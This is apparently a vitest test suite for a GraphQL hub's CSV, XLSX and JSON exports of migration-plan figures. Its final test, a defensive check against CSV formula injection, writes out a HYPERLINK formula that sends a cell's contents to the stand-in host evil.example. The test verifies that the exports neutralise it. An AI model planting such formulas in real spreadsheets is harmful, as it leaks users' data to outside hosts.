// Exports read back as an analyst's programs read them (a CSV parser, an XLSX reader, a
// JSON parser) and compared with the GraphQL answers of the same hub: the golden
// operations' lists, the figures sheet of every published figure, and a department's
// published figure carrying a formula, which no export delivers live.
import fs from "node:fs";
import { parse } from "csv-parse/sync";
import { getOperationAST, Kind, parse as parseGraphQL, TypeInfo, visit, visitWithTypeInfo, buildSchema, getNamedType, type FragmentDefinitionNode, type SelectionSetNode } from "graphql";
import readXlsxFile from "read-excel-file/node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FIGURE_COLUMNS, type SheetFigure } from "../gateway/src/plugins/figureSheet.js";
import { goldenOperations } from "./support/goldenOperations.js";
import { startTestHub, type TestHub } from "./support/testHub.js";
import { token } from "./support/tokens.js";

let hub: TestHub;
beforeAll(async () => {
  hub = await startTestHub();
});
afterAll(() => hub?.close());

const exportBase = () => hub.hub.gatewayUrl.replace(/\/graphql$/, "");
const operation = (name: string) => fs.readFileSync(new URL(`../schema/operations/${name}.graphql`, import.meta.url), "utf8");

/** RFC 4180 as a spreadsheet reads it (records end in CRLF; quoted fields may hold commas, quotes and line breaks). */
const parseCsv = (text: string, delimiter = ","): string[][] => parse(text.replace(/^\uFEFF/, ""), { record_delimiter: "\r\n", delimiter });

async function download(path: string, headers: Record<string, string> = {}) {
  const response = await fetch(`${exportBase()}${path}`, { headers });
  const bytes = new Uint8Array(await response.arrayBuffer());
  // ignoreBOM: keep the byte order mark in the text, as a spreadsheet program sees it.
  return { response, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}

/** The CSV's rows as objects keyed by its header. */
function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(header!.map((column, index) => [column, row[index]!])));
}

describe("export of the report's lists", () => {
  it("gives a golden list as CSV with a byte order mark, one dotted column per leaf in the operation's written order, and the same values as GraphQL", async () => {
    const { response, bytes, text } = await download("/export/InitiativesByObjective.csv?objective=5");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="InitiativesByObjective.csv"');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const graph = await hub.query<{ initiatives: { edges: { node: { code: string; name: string; status: string; participants: { role: string; department: { code: string } }[] } }[] } }>(
      operation("InitiativesByObjective"),
      { objective: 5 },
    );
    const nodes = graph.body.data!.initiatives.edges.map(({ node }) => node);
    const rows = records(text);
    // As schema/operations/InitiativesByObjective.graphql selects them, not as the manifest's normalised text sorts them.
    expect(parseCsv(text)[0]).toEqual([
      "code",
      "name",
      "status",
      "startYear",
      "participants.role",
      "participants.department.code",
      "participants.department.name",
      "countries.role",
      "countries.country.iso",
      "countries.country.name",
      "source.reference",
      "source.quote",
    ]);
    expect(rows.map((row) => row.code)).toEqual(nodes.map((node) => node.code));
    expect(rows.map((row) => row.name)).toEqual(nodes.map((node) => node.name));
    expect(rows.map((row) => row["participants.department.code"])).toEqual(nodes.map((node) => node.participants.map((participant) => participant.department.code).join("; ")));
    expect(rows.map((row) => row.code)).toContain("LMA_INDIA");
  });

  it("exports the list the query string names, and keeps provenance columns and the report's wording to the letter", async () => {
    const { response, text } = await download("/export/PlanOverview.csv?list=planFigures");
    expect(response.status).toBe(200);
    const graph = await hub.query<{ planFigures: { label: string; value: number; source: { reference: string; quote: string } }[] }>(operation("PlanOverview"));
    const rows = records(text);
    expect(rows).toHaveLength(graph.body.data!.planFigures.length);
    rows.forEach((row, index) => {
      const figure = graph.body.data!.planFigures[index]!;
      expect(row).toMatchObject({ label: figure.label, value: String(figure.value), "source.reference": figure.source.reference, "source.quote": figure.source.quote });
    });
    expect(parseCsv(text)[0]).toEqual(["label", "value", "unit", "qualifier", "statedPeriod.kind", "statedPeriod.start", "statedPeriod.end", "statedPeriod.label", "statedPeriod.quote", "source.reference", "source.quote"]);
    // A figure with no period says so in its period's label and leaves the other period cells empty.
    expect(rows.find((row) => row["source.reference"] === "Section III, paragraph 2")).toMatchObject({ value: "2", unit: "years", qualifier: "MORE_THAN", "statedPeriod.kind": "", "statedPeriod.label": "no period given", "statedPeriod.quote": "" });
    expect(rows.find((row) => row.value === "70")).toMatchObject({ qualifier: "EXACT", "statedPeriod.kind": "SINCE", "statedPeriod.start": "2020", "statedPeriod.end": "" });
    const json = await download("/export/PlanOverview.json?list=planFigures");
    expect(json.response.headers.get("content-type")).toBe("application/json; charset=utf-8");
    // JSON keeps numbers as numbers, and a missing value as null.
    expect(JSON.parse(json.text)).toEqual(rows.map((row) => Object.fromEntries(Object.entries(row).map(([key, value]) => [key, value === "" ? null : key === "value" ? Number(value) : value]))));
  });

  it("keeps the report's characters intact (UTF-8): the CSV reads back to the same names as GraphQL", async () => {
    const { text } = await download("/export/InitiativesByObjective.csv?objective=15");
    const graph = await hub.query<{ initiatives: { edges: { node: { name: string } }[] } }>(operation("InitiativesByObjective"), { objective: 15 });
    const names = graph.body.data!.initiatives.edges.map(({ node }) => node.name);
    expect(names).toContain("ACM\u2013IHRU housing protocol");
    expect(records(text).map((row) => row.name)).toEqual(names);
  });

  it("answers an argument a department refuses (BAD_USER_INPUT) with 400 and its message", async () => {
    const { response, text } = await download("/export/InitiativesByObjective.csv?objective=24");
    expect(response.status).toBe(400);
    expect(JSON.parse(text).errors[0].message).toMatch(/objective/);
  });

  it("exports a connection by its own name (its nodes), with qualifier and period: PandemicResponse's border figures", async () => {
    const { response, text } = await download("/export/PandemicResponse.csv?list=borderFigures");
    expect(response.status, text).toBe(200);
    expect(records(text)).toEqual([
      {
        label: "Foreign citizens residing in Portugal (SEF data)",
        value: "662000",
        unit: "people",
        qualifier: "EXACT",
        "statedPeriod.kind": "DURING",
        "statedPeriod.start": "2020",
        "statedPeriod.end": "2020",
        "statedPeriod.label": "in 2020",
        "source.reference": "Section II, pandemic measures, bullet 2",
        "source.quote": "SEF data indicates that 662 thousand foreign citizens were residing in Portugal in 2020",
      },
    ]);
    expect((await download("/export/PandemicResponse.csv?list=borderFigures.edges")).text).toBe(text);
  });

  it("exports a list reached through a list: every objective's figures of one department", async () => {
    const { text } = await download("/export/ObjectiveDashboard.csv?list=objectives");
    expect(records(text).map((row) => row.number)).toContain("9");
    const refused = await download("/export/ObjectiveDashboard.csv?list=objectives.integrationFigures");
    expect(refused.response.status).toBe(400);
    expect(JSON.parse(refused.text).errors[0].message).toBe(
      '"objectives.integrationFigures" is not a list the operation selects; its lists are: objectives, borderFigures, integrationFigures, diasporaFigures, labourFigures, socialProtectionFigures (a dotted path, e.g. country.initiatives)',
    );
  });
});

type Figure = Omit<SheetFigure, "status">;
const FIGURE_FIELDS = "id objective { number title } label value unit qualifier statedPeriod { kind start end label quote } source { reference quote }";
const DEPARTMENT_FIELDS = { border: "borderFigures", integration: "integrationFigures", diaspora: "diasporaFigures", labour: "labourFigures", social: "socialProtectionFigures" };

/** Every figure anyone may read, by department, as GraphQL answers (FIGURE_COLUMNS's order of departments). */
async function figuresFromGraph(): Promise<[string, Figure][]> {
  const connections = Object.values(DEPARTMENT_FIELDS).map((field) => `${field}(first: $first) { pageInfo { hasNextPage } edges { node { ${FIGURE_FIELDS} } } }`);
  const { body } = await hub.query(`query ($first: Int) { planFigures { ${FIGURE_FIELDS} } ${connections.join(" ")} }`, { first: 100 });
  expect(body.errors).toBeUndefined();
  const figures: [string, Figure][] = body.data!.planFigures.map((figure: Figure) => ["plan", figure]);
  for (const [department, field] of Object.entries(DEPARTMENT_FIELDS)) {
    expect(body.data![field].pageInfo.hasNextPage).toBe(false);
    figures.push(...body.data![field].edges.map(({ node }: { node: Figure }) => [department, node] as [string, Figure]));
  }
  return figures;
}

/** A figure as the figures sheet's row: FIGURE_COLUMNS, empty cells as null. */
function sheetRow(department: string, figure: Figure): (string | number | null)[] {
  const period = figure.statedPeriod;
  return [department, figure.objective?.number ?? null, figure.objective?.title ?? null, figure.id, figure.label, figure.value, figure.unit, figure.qualifier, period?.kind ?? null, period?.start ?? null, period?.end ?? null, period?.label ?? "no period given", period?.quote ?? null, figure.source.reference, figure.source.quote];
}
const asCsv = (row: (string | number | null)[]) => row.map((cell) => (cell === null ? "" : String(cell)));

describe("the figures sheet", () => {
  it("gives every published figure across the departments, one row each, the same as GraphQL in CSV, XLSX and JSON", async () => {
    const expected = (await figuresFromGraph()).map(([department, figure]) => sheetRow(department, figure));
    expect(expected.length).toBeGreaterThan(50);
    expect(new Set(expected.map((row) => row[0]))).toEqual(new Set(["plan", ...Object.keys(DEPARTMENT_FIELDS)]));

    const csv = await download("/export/figures.csv");
    expect(csv.response.status, csv.text).toBe(200);
    expect(csv.response.headers.get("content-disposition")).toBe('attachment; filename="figures.csv"');
    expect(parseCsv(csv.text)).toEqual([[...FIGURE_COLUMNS], ...expected.map(asCsv)]);

    const xlsx = await download("/export/figures.xlsx");
    const [figures, sources] = await readXlsxFile(Buffer.from(xlsx.bytes));
    expect(figures!.sheet).toBe("figures");
    expect(figures!.data).toEqual([[...FIGURE_COLUMNS], ...expected]);
    expect(sources!.sheet).toBe("sources");
    expect(sources!.data[0]).toEqual(["reference", "quote", "rows"]);
    const cited = new Set(expected.map((row) => JSON.stringify([row[13], row[14]])));
    expect(sources!.data.slice(1).map((row) => JSON.stringify([row[0], row[1]])).sort()).toEqual([...cited].sort());

    const json = JSON.parse((await download("/export/figures.json")).text);
    expect(json.map((row: Record<string, unknown>) => FIGURE_COLUMNS.map((column) => row[column]))).toEqual(expected);
  });

  it("filters by department, objective and year, and writes ; for a Portuguese Excel", async () => {
    const all = await figuresFromGraph();
    const { text } = await download("/export/figures.csv?department=integration&objective=7&year=2021&delimiter=%3B");
    const rows = parseCsv(text, ";");
    expect(rows[0]).toEqual([...FIGURE_COLUMNS]);
    const integration7 = all.filter(([department, figure]) => department === "integration" && figure.objective?.number === 7);
    expect(rows.length - 1).toBeGreaterThan(0);
    expect(rows.length - 1).toBeLessThanOrEqual(integration7.length);
    expect(rows.slice(1).every((row) => row[0] === "integration" && row[1] === "7")).toBe(true);
  });
});

describe("golden operations for analysts", () => {
  it("ObjectiveDashboard's default covers every objective that has figures, and its XLSX holds every one of them, a sheet per list", async () => {
    const fields = Object.values(DEPARTMENT_FIELDS);
    const { body } = await hub.query(`{ objectives { number ${fields.map((field) => `${field} { id }`).join(" ")} } }`);
    const withFigures = body.data!.objectives.filter((objective: Record<string, { id: string }[] | number>) => fields.some((field) => (objective[field] as { id: string }[]).length > 0));
    const figureCount = withFigures.reduce((sum: number, objective: Record<string, { id: string }[]>) => sum + fields.reduce((count, field) => count + objective[field]!.length, 0), 0);
    expect(figureCount).toBe(34);

    const { bytes } = await download("/export/ObjectiveDashboard.xlsx");
    const sheets = await readXlsxFile(Buffer.from(bytes));
    expect(sheets.map((sheet) => sheet.sheet)).toEqual(["objectives", ...fields, "sources"]);
    expect(sheets[0]!.data.slice(1).map((row) => row[0])).toEqual(withFigures.map((objective: { number: number }) => objective.number));
    const exported = sheets.filter((sheet) => fields.includes(sheet.sheet)).reduce((sum, sheet) => sum + sheet.data.length - 1, 0);
    expect(exported).toBe(figureCount);
    const border = sheets.find((sheet) => sheet.sheet === "borderFigures")!;
    expect(border.data[0]).toEqual(["id", "objective.number", "label", "value", "unit", "qualifier", "statedPeriod.kind", "statedPeriod.start", "statedPeriod.end", "statedPeriod.label", "statedPeriod.quote", "source.reference", "source.quote"]);
    expect(border.data.slice(1).every((row) => typeof row[3] === "number" && typeof row[5] === "string")).toBe(true);
  });

  it("every figure a golden operation selects carries its qualifier and its stated period", () => {
    const schema = buildSchema(fs.readFileSync(new URL("../schema/api.graphql", import.meta.url), "utf8"));
    const missing: string[] = [];
    for (const { name, document } of goldenOperations()) {
      const parsed = parseGraphQL(document);
      const fragments = new Map(parsed.definitions.filter((definition): definition is FragmentDefinitionNode => definition.kind === Kind.FRAGMENT_DEFINITION).map((fragment) => [fragment.name.value, fragment]));
      const fieldsOf = (set: SelectionSetNode): string[] =>
        set.selections.flatMap((selection) => (selection.kind === Kind.FIELD ? [selection.name.value] : fieldsOf(selection.kind === Kind.INLINE_FRAGMENT ? selection.selectionSet : fragments.get(selection.name.value)!.selectionSet)));
      const typeInfo = new TypeInfo(schema);
      visit(
        { ...parsed, definitions: [getOperationAST(parsed)!] },
        visitWithTypeInfo(typeInfo, {
          Field(field) {
            const type = typeInfo.getType();
            if (!type || getNamedType(type).name !== "Observation" || !field.selectionSet) return;
            const selected = fieldsOf(field.selectionSet);
            for (const needed of ["qualifier", "statedPeriod"]) if (!selected.includes(needed)) missing.push(`${name} ${field.alias?.value ?? field.name.value} lacks ${needed}`);
          },
        }),
      );
    }
    expect(missing).toEqual([]);
  });
});

describe("formula injection (OWASP CSV injection)", () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/leak?d="&B3,"Source")';

  it("delivers a published figure's formula as text in CSV and XLSX, and as the department wrote it in JSON", async () => {
    const writer = await token({ subgraph: "labour", scopes: ["write", "publish"] });
    const post = async (query: string, variables: Record<string, unknown>) => {
      const response = await hub.post(JSON.stringify({ query, variables }), { authorization: `Bearer ${writer}` });
      const body = (await response.json()) as { data?: Record<string, { id: string; status: string }>; errors?: unknown[] };
      expect(body.errors).toBeUndefined();
      return body.data!;
    };
    const input = {
      label: HYPERLINK,
      value: 3,
      unit: "@people",
      objective: 6,
      period: { kind: "DURING", start: "2021", end: "2021", label: "2021" },
      source: { document: "+a document", reference: "-Section II", quote: "+351 a test quote" },
    };
    const recorded = await post("mutation ($input: FigureInput!) { recordLabourFigure(input: $input) { id status } }", { input });
    const published = await post("mutation ($id: ID!) { publishLabourFigure(id: $id) { id status } }", { id: recorded.recordLabourFigure!.id });
    expect(published.publishLabourFigure!.status).toBe("PUBLISHED");
    const id = published.publishLabourFigure!.id;

    const csv = await download("/export/figures.csv?department=labour");
    const row = parseCsv(csv.text).find((cells) => cells[3] === id)!;
    expect([row[4], row[5], row[6], row[13], row[14]]).toEqual([`'${HYPERLINK}`, "3", "'@people", "'-Section II", "'+351 a test quote"]);

    const [sheet, sources] = await readXlsxFile(Buffer.from((await download("/export/figures.xlsx?department=labour")).bytes));
    const cells = sheet!.data.find((cells) => cells[3] === id)!;
    expect([cells[4], cells[5], cells[6], cells[13], cells[14]]).toEqual([`'${HYPERLINK}`, 3, "'@people", "'-Section II", "'+351 a test quote"]);
    expect(sources!.data[0]).toEqual(["reference", "quote", "rows"]);
    expect(sources!.data).toContainEqual(["'-Section II", "'+351 a test quote", 1]);

    const json = JSON.parse((await download("/export/figures.json?department=labour")).text) as Record<string, unknown>[];
    expect(json.find((figure) => figure.id === id)).toMatchObject({ label: HYPERLINK, unit: "@people", sourceQuote: "+351 a test quote" });

    // A golden operation's export is neutralised the same way.
    const dashboard = await download("/export/ObjectiveDashboard.csv?numbers=6&list=labourFigures");
    expect(records(dashboard.text).find((figure) => figure.id === id)).toMatchObject({ label: `'${HYPERLINK}`, unit: "'@people", "source.quote": "'+351 a test quote" });
  });
});
